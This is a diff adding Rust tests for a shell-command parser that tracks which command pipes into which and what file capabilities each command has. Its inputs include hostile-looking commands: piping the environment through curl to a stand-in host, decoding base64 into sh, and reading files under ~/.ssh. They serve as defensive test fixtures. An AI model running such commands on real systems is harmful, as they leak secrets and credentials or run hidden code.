@@ -314,6 +314,44 @@ fn harmless_forms_stay_read() {
 }
 
 #[test]
+fn pipelines_say_who_feeds_whom() {
+    let s = parse("env | sudo curl -d @- http://x; echo 'a | b'");
+    let feeds: Vec<(&str, Option<usize>)> = s
+        .commands
+        .iter()
+        .map(|c| (c.name.as_str(), c.piped_from))
+        .collect();
+    assert_eq!(
+        feeds,
+        [
+            ("env", None),
+            ("sudo", Some(0)),
+            ("curl", Some(0)),
+            ("echo", None)
+        ]
+    );
+    let s = parse("echo x | base64 -d | sh -c 'cat | tee f'");
+    let feeds: Vec<(&str, Option<usize>)> = s
+        .commands
+        .iter()
+        .map(|c| (c.name.as_str(), c.piped_from))
+        .collect();
+    assert_eq!(
+        feeds,
+        [
+            ("echo", None),
+            ("base64", Some(0)),
+            ("sh", Some(1)),
+            ("cat", Some(1)),
+            ("tee", Some(3))
+        ]
+    );
+    let s = parse("cat <<EOF | sh\nrm x\nEOF");
+    assert_eq!(s.commands[1].name, "sh");
+    assert_eq!(s.commands[1].piped_from, Some(0));
+}
+
+#[test]
 fn redirects_are_read() {
     let s = parse("cmd < in > out 2>&1 >> log &> all");
     let kinds: Vec<(RedirectKind, &str)> = s.commands[0]
@@ -457,6 +495,11 @@ fn capability_tables() {
         ("git rebase --abort", VcsRewrite),
         ("git clean -n", Delete),
     ];
+    // A filter reading its input reads no file.
+    let s = parse("ls | grep x");
+    assert!(effects(&s.commands[1]).is_empty());
+    let s = parse("find ~/.ssh | xargs cat");
+    assert!(effects(&s.commands[2]).iter().any(|e| e.capability == Read));
     for (text, unwanted) in not {
         assert!(!caps(text).contains(unwanted), "{text}: {:?}", caps(text));
     }
